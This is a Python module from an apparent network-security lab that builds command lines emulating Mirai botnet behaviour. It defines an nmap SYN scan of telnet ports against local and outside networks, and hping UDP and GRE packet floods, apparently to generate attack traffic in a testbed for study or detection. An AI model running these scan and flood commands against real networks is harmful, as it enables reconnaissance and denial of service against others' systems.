"""What a Mirai-like bot does: it looks for telnet, then floods."""

from __future__ import annotations

from emtc_lab.attacks.base import Aim, attack
from emtc_lab.attacks.flood import hping
from emtc_lab.site import OUTSIDE_NET

_OUT_THERE = f"{OUTSIDE_NET}.0/24"


@attack("mirai-scan", "mirai", "device", "lan")
def mirai_scan(aim: Aim) -> list[str]:
    """SYNs to 23 and 2323 of neighbours and strangers."""
    rate = f"{aim.rate((30, 150), (0.5, 3)):.1f}"
    pace = ["--max-rate", rate, "--max-retries", "0"]
    return ["nmap", "-n", "-Pn", "-sS", "-p", "23,2323", *pace, aim.site.network, _OUT_THERE]


@attack("mirai-udp-plain", "mirai", "device", "api", ok=(0, 1))
def mirai_udp_plain(aim: Aim) -> list[str]:
    """A flood of datagrams, many ports."""
    return hping(aim, "--udp", "-p", "++1024", "-s", "10000", payload=aim.rng.choice([32, 256]), largest_rate=200)


@attack("mirai-gre", "mirai", "device", "api", ok=(0, 1))
def mirai_gre(aim: Aim) -> list[str]:
    """A flood of GRE packets (IP protocol 47)."""
    return hping(aim, "--rawip", "-H", "47", payload=aim.rng.choice([64, 256]), largest_rate=200)
